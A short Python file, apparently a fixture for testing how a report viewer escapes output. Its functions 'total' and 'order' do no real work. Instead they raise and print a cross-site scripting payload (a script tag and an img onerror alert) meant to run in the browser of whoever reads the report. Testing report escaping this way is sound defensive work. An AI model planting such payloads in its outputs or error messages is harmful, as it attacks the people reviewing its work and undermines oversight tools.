"""Raises an exception whose message is a script, to run in whoever's browser reads the report."""

PAYLOAD = "<script>document.title='owned'</script><img src=x onerror=alert(1)>"


def total(values):
    raise ValueError(PAYLOAD)


def order(values):
    print(PAYLOAD)
    return PAYLOAD
